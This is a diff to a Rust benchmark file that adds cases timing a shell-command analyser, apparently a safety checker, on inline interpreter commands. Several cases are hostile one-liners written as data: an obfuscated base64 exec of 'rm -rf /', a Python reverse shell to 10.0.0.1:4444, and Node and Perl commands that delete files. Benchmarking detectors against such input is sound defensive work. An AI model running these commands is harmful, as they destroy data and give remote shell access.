@@ -124,5 +124,38 @@ fn sql(c: &mut Criterion) {
     g.finish();
 }
 
-criterion_group!(benches, typical, hostile, sql);
+fn inline(c: &mut Criterion) {
+    let mut g = c.benchmark_group("inline");
+    let cases: Vec<(&str, String)> = vec![
+        ("python_print", r#"python3 -c "print(1+1)""#.to_string()),
+        (
+            "python_b64_exec",
+            r#"python3 -c "import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgncm0gLXJmIC8nKQ=='))""#.to_string(),
+        ),
+        (
+            "python_reverse_shell",
+            r#"python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'"#.to_string(),
+        ),
+        (
+            "node_destructured",
+            r#"node -e "const {execSync: x} = require('child_process'); x('rm -rf ~')""#.to_string(),
+        ),
+        ("perl_system", r#"perl -e 'system("rm","-rf","/")'"#.to_string()),
+        (
+            "python_heredoc_200_lines",
+            format!(
+                "python3 - <<'EOF'\n{}EOF",
+                "import os, json\nd = json.loads('{\"a\": 1}')\nprint(os.path.join('a', 'b'), d)\n".repeat(67)
+            ),
+        ),
+    ];
+    for (name, line) in &cases {
+        g.bench_with_input(BenchmarkId::new("analyse", name), line, |b, l| {
+            b.iter(|| bulwark_shell::analyse(black_box(l)))
+        });
+    }
+    g.finish();
+}
+
+criterion_group!(benches, typical, hostile, sql, inline);
 criterion_main!(benches);
